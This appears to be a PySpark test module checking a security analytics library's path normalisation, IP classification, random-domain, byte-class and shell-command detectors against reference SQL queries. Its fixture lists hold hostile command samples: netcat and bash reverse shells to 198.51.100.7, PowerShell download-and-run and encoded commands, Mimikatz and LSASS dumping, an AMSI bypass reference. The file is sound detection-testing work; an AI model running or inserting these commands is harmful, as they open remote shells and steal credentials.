"""Normal forms, address tests, labels, decoders and tags over texts made of the driver tables."""

from __future__ import annotations

from pyspark.sql import functions as F

from quarry.functions import normalise as N
from quarry.functions import tags as T

from .catalogue import query


def pick(values: list, column: str, n: int | None = None):
    """Value of a fixed list by the row's number."""
    return F.element_at(F.array(*map(F.lit, values)), (F.col(column) % (n or len(values)) + 1).cast("int"))


def sql_list(values: list) -> str:
    return "[" + ", ".join("'" + v.replace("'", "''") + "'" if isinstance(v, str) else str(v) for v in values) + "]"


_HEADS, _JOINTS, _TAILS = ["C:\\", "\\Device\\HarddiskVolume3\\", '"D:\\\\', "  //srv/", ""], ["\\", "\\\\", "/"], [".EXE", "\\", '"', " ", "/'"]
_PATHS = f"(SELECT p_partkey, p_brand, {sql_list(_HEADS)}[p_partkey % 5 + 1] || replace(p_name, ' ', {sql_list(_JOINTS)}[p_partkey % 3 + 1]) || {sql_list(_TAILS)}[p_partkey // 5 % 5 + 1] AS p FROM part)"
_SLASH = lambda x, many="/+": f"regexp_replace(replace({x}, '\\', '/'), '{many}', '/', 'g')"
_FACT = lambda x: f"""lower(rtrim({_SLASH(f"trim(trim(trim(trim({x}), '\"'), ''''))")}, '/'))"""
_LEAF = "regexp_extract({}, '([^/]*)$', 1)"


@query(f"""SELECT p_partkey, {_FACT('p')} AS fact,
    regexp_replace(lower(regexp_replace(regexp_replace(regexp_replace(replace(trim(p), '\\', '/'), '^/device/harddiskvolume[0-9]+/', '/', 'i'), '^[a-zA-Z]:/', '/'), '/+', '/', 'g')), '^/', '') AS candidate,
    CASE WHEN length(e) > 1 THEN regexp_replace(e, '/$', '') ELSE e END AS entity,
    ltrim(regexp_replace(regexp_replace(replace(lower(trim(p)), '\\', '/'), '^/device/harddiskvolume[0-9]+', ''), '^[a-z]:', ''), '/') AS ensemble,
    d AS dedup, ltrim(regexp_replace(d, '^[a-z]:', ''), '/') AS no_drive, {_LEAF.format("rtrim(replace(p, '\\', '/'), '/')")} AS leaf,
    lower(trim({_LEAF.format("replace(trim(trim(trim(p), '\"'), ''''), '\\', '/')")})) AS process, {_FACT("'HKLM/' || p || '/' || p_brand")} AS registry, lower(regexp_replace(trim(p), ' +', ' ', 'g')) AS command
    FROM (SELECT *, lower(trim({_SLASH('trim(p)')})) AS e, regexp_replace(regexp_replace(replace(lower(trim(p)), '\\', '/'), ' +', ' ', 'g'), '/{{2,}}', '/', 'g') AS d FROM {_PATHS})""")
def path_variants(t):
    tails = F.element_at(F.array(*map(F.lit, _TAILS)), (F.floor(F.col("p_partkey") / 5) % 5 + 1).cast("int"))
    p = F.concat(pick(_HEADS, "p_partkey"), F.replace(F.col("p_name"), F.lit(" "), pick(_JOINTS, "p_partkey")), tails)
    made = t("part").select("p_partkey", "p_brand", p.alias("p"))
    c = F.col("p")
    return made.select("p_partkey", N.path_of_fact(c).alias("fact"), N.path_of_candidate(c).alias("candidate"), N.path_of_entity(c).alias("entity"), N.path_of_ensemble(c).alias("ensemble"),
                       N.path_of_dedup(c).alias("dedup"), N.without_drive(N.path_of_dedup(c)).alias("no_drive"), N.leaf(c).alias("leaf"), N.process_name(c).alias("process"),
                       N.registry_key(F.lit("HKLM"), F.lit(None), c, F.lit(""), F.col("p_brand")).alias("registry"), N.command_line(c).alias("command"))


_FIRST, _SECOND, _FOURTH = [10, 127, 172, 192, 169, 224, 8, 203, 0, 100, 255, 1, 198, 240, 300], [168, 16, 31, 32, 254, 0, 51, 18], [0, 1, 9, 113, 255]
_IPS = f"""(SELECT *, a || '.' || b || '.' || c || '.' || d AS ip FROM (SELECT c_custkey, {sql_list(_FIRST)}[c_custkey % 15 + 1] AS a, {sql_list(_SECOND)}[c_custkey // 15 % 8 + 1] AS b, CASE WHEN c_custkey % 2 = 0 THEN 113 ELSE 100 END AS c, {sql_list(_FOURTH)}[c_custkey % 5 + 1] AS d FROM customer))"""
_SPECIAL = """(a IN (0, 10, 127) OR (a = 172 AND b BETWEEN 16 AND 31) OR (a = 192 AND b = 168) OR (a = 169 AND b = 254) OR a >= 240 OR (a = 198 AND b IN (18, 19)) OR (a = 198 AND b = 51 AND c = 100)
    OR (a = 203 AND b = 0 AND c = 113) OR (a = 192 AND b = 0 AND c = 2))"""


@query(f"""SELECT c_custkey, NOT (a IN (10, 127, 224, 239, 255) OR (a = 169 AND b = 254) OR (a = 192 AND b = 168) OR (a = 172 AND b BETWEEN 16 AND 31)) AS by_prefix,
    a <= 255 AND NOT (a IN (0, 10, 127) OR (a = 192 AND b = 168) OR (a = 172 AND b BETWEEN 16 AND 31) OR (a = 169 AND b = 254) OR a >= 224 OR d = 0) AS by_octets,
    a <= 255 AND NOT {_SPECIAL} AND NOT a BETWEEN 224 AND 239 AS by_registry, a <= 255 AND NOT {_SPECIAL} AND NOT a BETWEEN 224 AND 239 AS endpoint, a <= 255 AND {_SPECIAL} AS internal,
    a <= 255 AND (a = 127 OR (a = 169 AND b = 254)) AS local_entity, a <= 2 AS carved, a > 255 AS odd,
    CASE WHEN c_custkey % 11 = 0 THEN 'listening' WHEN c_custkey % 7 = 0 THEN CASE WHEN c_custkey % 5 = 0 THEN 'indeterminate' ELSE 'listening' END
        WHEN c_custkey % 5 = 0 THEN 'inbound' WHEN c_custkey % 5 * 1000 < c_custkey % 7 * 700 THEN 'inbound' WHEN c_custkey % 5 * 1000 > c_custkey % 7 * 700 THEN 'outbound' ELSE 'indeterminate' END AS direction
    FROM {_IPS}""")
def address_variants(t):
    b = F.element_at(F.array(*map(F.lit, _SECOND)), (F.floor(F.col("c_custkey") / 15) % 8 + 1).cast("int"))
    ip = F.concat_ws(".", pick(_FIRST, "c_custkey"), b, F.when(F.col("c_custkey") % 2 == 0, 113).otherwise(100), pick(_FOURTH, "c_custkey"))
    made = t("customer").select("c_custkey", ip.alias("ip"))
    c, k = F.col("ip"), F.col("c_custkey")
    return made.select("c_custkey", N.external_by_prefix(c).alias("by_prefix"), N.public_by_octets(c).alias("by_octets"), N.public_by_registry(c).alias("by_registry"),
                       N.external_endpoint(F.concat(F.lit(" "), c, F.lit("%4"))).alias("endpoint"), N.internal_by_registry(c).alias("internal"), N.local_entity(F.concat(F.lit("ip:"), c, F.lit(":443"))).alias("local_entity"),
                       N.carved_number(c).alias("carved"), N.odd_quad(c).alias("odd"),
                       N.direction((k % 5 * 1000).cast("string"), (k % 7 * 700).cast("string"), F.when(k % 11 == 0, "Listening")).alias("direction"))


_LABELS = "(SELECT p_partkey, CASE p_partkey % 4 WHEN 0 THEN substr(md5(p_name), 1, 8 + p_partkey % 9) WHEN 1 THEN replace(p_name, ' ', '-') WHEN 2 THEN regexp_replace(replace(p_name, ' ', ''), '[aeiou]', '', 'g') ELSE 'u-l-c-6-e-paa-0' END AS raw FROM part)"
_ENTROPY = "list_sum(list_transform(list_distinct(string_split(l, '')), lambda c: -((length(l) - length(replace(l, c, ''))) / n) * log2((length(l) - length(replace(l, c, ''))) / n)))"


@query(f"""SELECT p_partkey, array_to_string(list_filter([CASE WHEN ok AND length(regexp_replace(l, '[^aeiou]', '', 'g')) <= 0.26 * letters THEN 'low_vowel_ratio' END, CASE WHEN ok AND regexp_matches(l, '[b-df-hj-np-tv-z]{{5}}') THEN 'long_consonant_run' END,
    CASE WHEN ok AND length(regexp_replace(l, '[^0-9]', '', 'g')) >= 0.25 * n THEN 'high_digit_ratio' END, CASE WHEN ok AND {_ENTROPY} >= 0.9 * log2(n) THEN 'near_max_entropy' END], lambda x: x IS NOT NULL), ',') AS reasons
    FROM (SELECT *, p_partkey % 4 <> 3 AND n >= 10 AND letters > 0 AND regexp_matches(raw, '^[a-z0-9-]+$') AND NOT (len(string_split(raw, '-')) >= 3 AND len(list_filter(string_split(raw, '-'), lambda s: length(s) <= 1)) >= 0.5 * len(string_split(raw, '-'))) AS ok
        FROM (SELECT *, length(l) AS n, length(regexp_replace(l, '[^a-z]', '', 'g')) AS letters FROM (SELECT *, replace(raw, '-', '') AS l FROM {_LABELS})))""")
def random_labels(t):
    k, name = F.col("p_partkey"), F.col("p_name")
    raw = F.when(k % 4 == 0, F.substring(F.md5(name), F.lit(1), (8 + k % 9).cast("int"))).when(k % 4 == 1, F.replace(name, F.lit(" "), F.lit("-"))).when(k % 4 == 2, F.regexp_replace(F.replace(name, F.lit(" "), F.lit("")), "[aeiou]", "")).otherwise("u-l-c-6-e-paa-0")
    return t("part").select("p_partkey", F.array_join(N.random_label_reasons(F.concat(F.lit("www."), raw, F.lit(".com"))), ",").alias("reasons"))


@query("""SELECT s_suppkey, CASE s_suppkey % 6 WHEN 0 THEN 'mz_pe' WHEN 1 THEN 'zero_fill' WHEN 2 THEN 'int3_pad' WHEN 3 THEN 'shellcode' WHEN 4 THEN 'code' ELSE 'unknown' END AS class,
    'S-1-5-21-' || (s_suppkey * 7919) || '-' || (s_suppkey * 104729 % 4294967296) || '-500' AS sid,
    CASE WHEN s_suppkey % 4 = 3 THEN NULL WHEN s_suppkey % 4 = 1 THEN s_name || 'é' ELSE s_name END AS decoded, CASE s_suppkey % 4 WHEN 0 THEN 'utf-8' WHEN 1 THEN 'utf-16-le' WHEN 2 THEN 'utf-8' END AS codec, lower(s_name) AS command,
    'reg:' || s_suppkey AS other, CAST(s_suppkey AS VARCHAR) AS pid, '10.0.0.' || (s_suppkey % 256) AS ip FROM supplier""")
def binary_texts(t):
    k = F.col("s_suppkey")
    dump = F.when(k % 6 == 0, "4d 5a 90 00").when(k % 6 == 1, F.concat(F.repeat(F.lit("00 "), 60), F.lit("01 02 03 04"))).when(k % 6 == 2, F.concat(F.lit("90 "), F.repeat(F.lit("cc "), 50))).when(k % 6 == 3, "fc 48 83 e4 f0").when(k % 6 == 4, "55 8b ec 83").otherwise("")
    little = lambda v: F.concat(*(F.substring(F.lpad(F.hex(v), 8, "0"), 7 - 2 * j, 2) for j in range(4)))
    sid = F.unhex(F.concat(F.lit("0104000000000005"), little(F.lit(21)), little(k * 7919), little(k * 104729 % 4294967296), little(F.lit(500))))
    raw = F.when(k % 4 == 1, F.encode(F.concat("s_name", F.lit("é")), "UTF-16LE")).when(k % 4 == 3, F.unhex(F.lit("8001020381"))).otherwise(F.encode("s_name", "UTF-8"))
    both = N.decoded(F.try_to_binary(F.base64(raw), F.lit("base64")))
    key = F.concat(F.lit("conn:pid:"), k.cast("string"), F.lit("|peer:10.0.0."), (k % 256).cast("string"))
    found = N.entities_of(key)
    return t("supplier").select("s_suppkey", N.byte_class(dump).alias("class"), N.security_id(sid).alias("sid"), both["text"].alias("decoded"), both["codec"].alias("codec"),
                                N.encoded_command(F.base64(F.encode(F.lower("s_name"), "UTF-16LE"))).alias("command"), F.concat(F.lit("reg:"), k.cast("string")).alias("other"), found["by_pid"][0].alias("pid"), found["by_ip"][0].alias("ip"))


_PHRASES = [
    "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell -ep bypass -File a.ps1", "powershell -NoProfile -W hidden", "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", "Invoke-Mimikatz -Dump", "Invoke-WmiMethod -Class x",
    "Enter-PSSession -ComputerName h", "procdump lsass.exe out.dmp", "[Reflection.Assembly]::Load($b)", "[Ref].Assembly.GetType('AmsiUtils')", "Get-Credential admin", "psexec \\\\h cmd 127.0.0.1", "c:/windows/temp/a.exe run", "https://b.example/y from 10.1.2.3", "nothing to see", "-EncodedCommand $encoded", "Marshal::Copy after GetProcAddress",
]


@query(f"""SELECT p_partkey, array_to_string(list_sort(list_filter([{", ".join(f"CASE WHEN {c.format('x')} THEN '{n}' END" for n, c in T.SHELL_SQL)}], lambda x: x IS NOT NULL)), ',') AS shell,
    array_to_string(list_sort(list_filter([{", ".join(f"CASE WHEN regexp_matches(lower(x), '{p}') THEN '{n}' END" for n, p in T.STRING_TAGS)}], lambda x: x IS NOT NULL)), ',') AS plain
    FROM (SELECT p_partkey, p_name || ' ' || {sql_list(_PHRASES)}[p_partkey % {len(_PHRASES)} + 1] AS x FROM part)""")
def text_tags(t):
    x = F.concat(F.col("p_name"), F.lit(" "), pick(_PHRASES, "p_partkey"))
    made = t("part").select("p_partkey", x.alias("x"))
    return made.select("p_partkey", F.array_join(T.shell_tags(F.col("x")), ",").alias("shell"), F.array_join(T.string_tags(F.col("x")), ",").alias("plain"))


_COMMANDS = ["nc -e /bin/sh 198.51.100.7 4444", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell IEX (New-Object Net.WebClient).DownloadString('x')", "agent -l 4444 -s 198.51.100.7:443", "agent -s 198.51.100.7:443", "svchost -k netsvcs", ""]
_POINTS = [5, 5, 5, 5, 8, 6, 0, 0]
_SHAPES = [True, True, True, True, True, False, False, False]


@query(f"""SELECT s_suppkey, {sql_list(_POINTS)}[s_suppkey % 8 + 1] AS points, {sql_list(_SHAPES)}[s_suppkey % 8 + 1] AS shape, s_suppkey % 8 < 4 AS strong FROM supplier""")
def shell_scores(t):
    made = t("supplier").select("s_suppkey", pick(_COMMANDS, "s_suppkey").alias("x"))
    found = T.shell_signals(F.col("x"))
    return made.select("s_suppkey", T.shell_points(found).alias("points"), T.is_shell_shape(found).alias("shape"), T.is_strong_shell(found).alias("strong"))
